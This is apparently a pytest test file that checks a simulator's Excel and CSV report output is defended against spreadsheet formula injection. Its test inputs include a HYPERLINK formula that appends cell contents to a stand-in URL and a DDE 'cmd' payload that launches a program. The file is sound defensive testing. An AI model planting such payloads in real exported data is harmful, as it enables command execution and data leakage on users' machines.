"""Tables safe to open in a spreadsheet: scenario text that Excel would read as a formula
(a cell beginning with = + - @, tab or carriage return) reaches ``report.xlsx`` and
``tables/*.csv`` as text with a leading apostrophe, numbers stay numbers, and a control
character that openpyxl refuses does not make the workbook fail at the end of a run."""

from __future__ import annotations

import csv
import math
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest
import yaml

from simulator import load_scenario
from simulator.pipeline import run
from simulator.report import write_report
from simulator.report.tables import ReportTable, write_csvs, write_workbook

SCENARIO = Path(__file__).resolve().parents[1] / "scenario" / "good" / "minimal.yaml"
HYPERLINK = '=HYPERLINK("http://example.invalid/"&A1,"click")'
EVIL = {
    "scenario": HYPERLINK,          # the scenario's name
    "component": "=1+2",            # the component's display name
    "source": "@SUM(A1)",           # where its figures come from
    "plant": "-2+3",                # the plant's display name
    "supplier": "+cmd|' /C calc'!A0",
    "project": "\t=1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _evil_scenario(folder: Path) -> Path:
    """minimal.yaml with its names and sources replaced by formula-like text."""
    data = yaml.safe_load(SCENARIO.read_text(encoding="utf-8"))
    data["scenario"]["name"] = EVIL["scenario"]
    data["components"][0]["name"] = EVIL["component"]
    data["components"][0]["source"] = EVIL["source"]
    data["plants"][0]["name"] = EVIL["plant"]
    data["stages"]["procurement"]["suppliers"][0]["name"] = EVIL["supplier"]
    data["stages"]["investment"]["projects"][0]["name"] = EVIL["project"]
    path = folder / "evil.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def evil_folder(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("evil")
    folder = base / "r"
    run(load_scenario(_evil_scenario(base)), replications=2, workers=1, out=folder,
        charts=False)
    write_report(folder)
    return folder


def _workbook_cells(path: Path) -> list:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _csv_cells(folder: Path) -> list[str]:
    cells = []
    for path in sorted((folder / "tables").glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as f:
            cells += [cell for row in csv.reader(f) for cell in row]
    return cells


def test_no_workbook_cell_is_a_formula_and_numbers_stay_numbers(evil_folder):
    from openpyxl import load_workbook

    cells = _workbook_cells(evil_folder / "report.xlsx")
    assert cells
    assert not [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    sheet = load_workbook(evil_folder / "report.xlsx")["kpis_by_component"]
    header = [c.value for c in sheet[1]]
    rows = list(sheet.iter_rows(min_row=2))
    for column in ("replications", "P(closed by end)"):
        cells = [r[header.index(column)] for r in rows]
        assert cells and all(c.data_type == "n" for c in cells), column
        assert all(isinstance(c.value, int | float) for c in cells), column


def test_formula_like_text_is_kept_as_text_with_a_quote(evil_folder):
    texts = {c.value for c in _workbook_cells(evil_folder / "report.xlsx")
             if c.data_type == "s"}
    for name in EVIL:
        assert "'" + EVIL[name] in texts, name
        assert EVIL[name] not in texts, name
    csv_texts = set(_csv_cells(evil_folder))
    assert "'" + EVIL["scenario"] in csv_texts and "'" + EVIL["component"] in csv_texts


def test_no_csv_cell_starts_like_a_formula(evil_folder):
    cells = _csv_cells(evil_folder)
    assert cells
    bad = [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
    assert not bad


def test_negative_numbers_stay_numbers_and_only_text_is_quoted(tmp_path):
    data = pd.DataFrame({"name": ["-2+3", "@x", "plain", None], "value": [-3.5, -1, 2.0, None],
                         "count": [-4, 0, 5, 6]})
    table = ReportTable("mixed", "Mixed", data)
    write_csvs([table], tmp_path / "tables")
    with (tmp_path / "tables" / "mixed.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1][:3] == ["'-2+3", "-3.5", "-4"] and rows[2][0] == "'@x"
    assert rows[3][0] == "plain" and rows[4][0] == ""
    assert data["name"].tolist()[:3] == ["-2+3", "@x", "plain"]  # the table is untouched

    from openpyxl import load_workbook

    write_workbook([table], tmp_path / "mixed.xlsx")
    sheet = load_workbook(tmp_path / "mixed.xlsx")["mixed"]
    names = [sheet.cell(row=r, column=1) for r in range(2, 5)]
    assert [c.value for c in names] == ["'-2+3", "'@x", "plain"]
    assert all(c.data_type == "s" for c in names)
    values = [sheet.cell(row=r, column=2) for r in range(2, 5)]
    assert [c.value for c in values] == [-3.5, -1, 2] and all(c.data_type == "n" for c in values)
    assert sheet.cell(row=2, column=3).value == -4


def test_a_control_character_does_not_fail_the_workbook(tmp_path):
    from openpyxl import load_workbook

    texts = ["bell\x07here", "nul\x00", "=x\x1b", "tab\tand\nline", "half a pair \ud800"]
    data = pd.DataFrame({"name": pd.Series(texts, dtype=object),  # arrow cannot hold \ud800
                         "value": [1.0, 2.0, 3.0, math.pi, -1.0]})
    path = write_workbook([ReportTable("control", "Control", data)], tmp_path / "c.xlsx")
    sheet = load_workbook(path)["control"]
    names = [sheet.cell(row=r, column=1).value for r in range(2, 7)]
    assert names == ["bell\ufffdhere", "nul\ufffd", "'=x\ufffd", "tab\tand\nline",
                     "half a pair \ufffd"]
    assert sheet.cell(row=5, column=2).value == pytest.approx(math.pi)


def test_a_control_character_in_a_result_does_not_fail_the_report(evil_folder, tmp_path):
    from simulator.results import read_results

    folder = tmp_path / "control"
    shutil.copytree(evil_folder, folder)
    result = read_results(folder)
    result.meta["scenario"] = "bell\x07"
    result.summary["components"]["ecu"]["name"] = "esc\x1b[31m"
    write_report(folder, result=result)
    texts = {c.value for c in _workbook_cells(folder / "report.xlsx")}
    assert "esc\ufffd[31m" in texts
